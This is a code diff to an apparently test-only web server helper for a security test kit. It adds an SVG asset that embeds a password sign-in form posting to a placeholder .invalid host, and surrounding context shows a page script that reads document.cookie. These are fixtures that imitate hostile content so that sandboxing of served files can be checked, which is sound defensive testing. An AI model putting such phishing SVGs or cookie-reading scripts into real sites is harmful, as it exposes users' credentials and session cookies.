@@ -66,6 +66,17 @@ export function kitAsset(token: string): Buffer {
   return Buffer.concat([BREAD_PNG.subarray(0, 33), length, type, data, crc, BREAD_PNG.subarray(33)]);
 }
 
+/**
+ * The kit's SVG asset `token` (served at /asset/<token>.svg): an image that draws a sign-in form posting elsewhere,
+ * as a hostile SVG would (rule served-files-no-forms-no-framing: the target serves its copy so that it cannot post).
+ */
+export function kitSvgAsset(token: string): Buffer {
+  return Buffer.from(
+    `<svg xmlns="http://www.w3.org/2000/svg" width="320" height="120"><!-- site-mcp kit asset ${token} --><foreignObject width="320" height="120"><form xmlns="http://www.w3.org/1999/xhtml" action="https://form-target.invalid/${token}" method="post"><input name="password" type="password"/><button>Sign in</button></form></foreignObject></svg>`,
+    'utf8',
+  );
+}
+
 const page = (title: string, body: string) =>
   `<!doctype html><html><head><title>${title}</title><script>${TEST_WEBSITE.scriptMarker} = document.cookie;</script></head><body>${body}</body></html>`;
 
@@ -138,10 +149,10 @@ export async function startTestWebsite(options: { redirectToCanary?: string } = 
       return;
     }
     requested.push(path);
-    const asset = /^\/asset\/([^/]+)\.png$/.exec(path);
+    const asset = /^\/asset\/([^/]+)\.(png|svg)$/.exec(path);
     if (asset && ASSET_TOKEN.test(asset[1]!) && !forgotten.has(asset[1]!)) {
-      res.writeHead(200, { 'content-type': 'image/png' });
-      res.end(kitAsset(asset[1]!));
+      res.writeHead(200, { 'content-type': asset[2] === 'svg' ? 'image/svg+xml' : 'image/png' });
+      res.end(asset[2] === 'svg' ? kitSvgAsset(asset[1]!) : kitAsset(asset[1]!));
       return;
     }
     if (path === '/to-canary' && options.redirectToCanary) {
